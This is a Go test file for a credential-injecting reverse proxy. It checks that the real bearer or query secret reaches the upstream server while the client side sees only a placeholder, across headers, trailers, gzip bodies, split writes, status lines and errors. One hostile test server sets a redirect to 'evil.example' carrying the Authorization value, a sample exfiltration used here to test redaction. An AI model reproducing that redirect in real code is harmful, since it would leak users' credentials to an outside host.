package proxy

import (
	"bytes"
	"compress/gzip"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"testing"

	"github.com/holdfast-dev/holdfast/internal/proxy/redact"

	"github.com/holdfast-dev/holdfast/internal/fixture"
	"github.com/holdfast-dev/holdfast/sandbox/policy"
)

// across sends a request with a bearer's placeholder through a boundary, behind a
// reverse proxy as in the proxy, to a TLS server with a handler.
func across(t *testing.T, h http.HandlerFunc, change func(*http.Request)) (*http.Response, string) {
	t.Helper()
	all, p := secretOf(t, policy.Credential{Place: "bearer"})
	upstream := httptest.NewTLSServer(h)
	t.Cleanup(upstream.Close)
	to, _ := url.Parse(upstream.URL)
	proxy := httptest.NewServer(&httputil.ReverseProxy{
		Rewrite:   func(r *httputil.ProxyRequest) { r.SetURL(to) },
		Transport: &credentialTransport{next: upstream.Client().Transport, bound: all, by: all.redactor(), note: func(string) {}},
		ErrorHandler: func(w http.ResponseWriter, r *http.Request, err error) {
			w.WriteHeader(http.StatusBadGateway)
			fmt.Fprintf(w, "%v %v %v", err, r.Header, r.URL)
		},
	})
	t.Cleanup(proxy.Close)
	r, _ := http.NewRequest("GET", proxy.URL+"/path", nil)
	r.Header.Set("Authorization", "Bearer "+p)
	if change != nil {
		change(r)
	}
	c := &http.Client{Transport: &http.Transport{DisableCompression: true}, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	t.Cleanup(c.CloseIdleConnections)
	res, err := c.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, _ := io.ReadAll(res.Body)
	all0 := fmt.Sprintf("%s %v %v %s", res.Status, res.Header, res.Trailer, body)
	for _, s := range fixture.EchoedForms(testSecret) {
		if strings.Contains(all0, s) {
			t.Errorf("the tool reads %q in %q", s, all0)
		}
	}
	return res, strings.ReplaceAll(string(body), p, "P")
}

func TestTheServerGetsTheSecretAndTheToolThePlaceholder(t *testing.T) {
	res, body := across(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		w.Header().Set("Location", "https://evil.example/?t="+url.QueryEscape(r.Header.Get("Authorization")))
		w.Header().Set("Set-Cookie", "t="+testSecret)
		w.Header().Set("Trailer", "X-End")
		w.WriteHeader(http.StatusFound)
		if r.Header.Get("Authorization") == "Bearer "+testSecret {
			io.WriteString(w, "got it: "+testSecret)
		}
		w.Header().Set("X-End", testSecret)
	}, nil)
	if body != "got it: P" || res.StatusCode != http.StatusFound || !strings.Contains(res.Header.Get("X-Echo"), placeholderPrefix) || !strings.Contains(res.Trailer.Get("X-End"), placeholderPrefix) {
		t.Errorf("%v %v %q", res.Header, res.Trailer, body)
	}
}

func TestASecretSplitOverWritesIsReplaced(t *testing.T) {
	_, body := across(t, func(w http.ResponseWriter, r *http.Request) {
		for _, c := range strings.Split("x"+testSecret+"y", "") {
			io.WriteString(w, c)
			w.(http.Flusher).Flush()
		}
	}, nil)
	if body != "xPy" {
		t.Errorf("%q", body)
	}
}

func TestNeitherRangesNorCompressionAreAskedFor(t *testing.T) {
	_, body := across(t, func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, r.Header.Values("Range"), r.Header.Values("If-Range"), r.Header.Values("Request-Range"), r.Header.Values("Grpc-Accept-Encoding"), r.Header.Values("Connect-Accept-Encoding"), r.Header.Values("Accept-Encoding"))
	}, func(r *http.Request) {
		r.Header.Set("Range", "bytes=0-3")
		r.Header.Set("If-Range", `"x"`)
		r.Header.Set("Request-Range", "bytes=0-3")
		r.Header.Set("Grpc-Accept-Encoding", "gzip")
		r.Header.Set("Connect-Accept-Encoding", "gzip")
		r.Header.Set("Accept-Encoding", "br, gzip")
	})
	if body != "[] [] [] [] [] [identity]" {
		t.Errorf("%q", body)
	}
}

func TestACompressedAnswerIsUnpackedOrRefused(t *testing.T) {
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	io.WriteString(z, "packed "+testSecret)
	z.Close()
	answer := func(coding string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Encoding", coding)
			w.Write(packed.Bytes())
		}
	}
	res, body := across(t, answer("gzip"), nil)
	if body != "packed P" || res.Header.Get("Content-Encoding") != "" {
		t.Errorf("%v %q", res.Header, body)
	}
	for _, coding := range []string{"br", "gzip, gzip", "deflate", "zstd"} {
		if res, body := across(t, answer(coding), nil); res.StatusCode != http.StatusBadGateway || !strings.Contains(body, redact.ErrEncoding.Error()) {
			t.Errorf("%s: %s %q", coding, res.Status, body)
		}
	}
}

func TestAServersOwnPhraseAndHeaderNamesAreNotPassedOn(t *testing.T) {
	_, body := across(t, func(w http.ResponseWriter, r *http.Request) {
		c, b, _ := w.(http.Hijacker).Hijack()
		defer c.Close()
		fmt.Fprintf(b, "HTTP/1.1 200 %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok", testSecret)
		b.Flush()
	}, nil)
	if body != "ok" {
		t.Errorf("%q", body)
	}
}

// TestATrailersNameIsNotPassedOn: names are announced before the body, in a case of
// their own.
func TestATrailersNameIsNotPassedOn(t *testing.T) {
	const secret = "tok-0123456789"
	all, p := secretOf(t, policy.Credential{Place: "bearer", Secret: secret})
	upstream := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, b, _ := w.(http.Hijacker).Hijack()
		defer c.Close()
		fmt.Fprintf(b, "HTTP/1.1 200 OK\r\nTrailer: %s\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n%s: x\r\n\r\n", secret, secret)
		b.Flush()
	}))
	defer upstream.Close()
	r, _ := http.NewRequest("GET", upstream.URL, nil)
	r.Header.Set("Authorization", "Bearer "+p)
	res, err := (&credentialTransport{next: upstream.Client().Transport, bound: all, by: all.redactor(), note: func(string) {}}).RoundTrip(r)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	announced := fmt.Sprint(res.Header, res.Trailer)
	body, err := io.ReadAll(res.Body)
	if said := strings.ToLower(announced + fmt.Sprint(res.Trailer)); strings.Contains(said, secret) || string(body) != "ok" || err != nil {
		t.Errorf("%s %q %v", said, body, err)
	}
}

// broken is a server that answers with an error that has all that it was sent.
type broken struct{}

func (broken) RoundTrip(r *http.Request) (*http.Response, error) {
	return nil, fmt.Errorf("could not send %v to %v", r.Header, r.URL)
}

func TestAnErrorDoesNotSayTheSecret(t *testing.T) {
	all, p := secretOf(t, policy.Credential{Place: "query", Field: "key"})
	r, _ := http.NewRequest("GET", "https://api.example.com/?key="+p, nil)
	_, err := (&credentialTransport{next: broken{}, bound: all, by: all.redactor(), note: func(string) {}}).RoundTrip(r)
	if err == nil || strings.Contains(err.Error(), url.QueryEscape(testSecret)) || !strings.Contains(err.Error(), p) {
		t.Errorf("%v", err)
	}
	if r.URL.RawQuery != "key="+p {
		t.Errorf("the caller's request has the secret: %s", r.URL)
	}
	sentinel := errors.New("plain")
	if got := all.redactor().CleanError(sentinel); got != sentinel {
		t.Errorf("a plain error is another one: %v", got)
	}
}

func TestNoCharsetIsAskedFor(t *testing.T) {
	h := http.Header{"Accept": {"text/html;charset=utf-32;q=0.5, application/json; Charset=ebcdic-cp-us", "*/*"}, "Accept-Charset": {"utf-7"}}
	prepareHeaders(h)
	if got := strings.Join(h["Accept"], "|"); got != "text/html;q=0.5, application/json|*/*" || h.Get("Accept-Charset") != "" {
		t.Errorf("%q %v", got, h)
	}
}
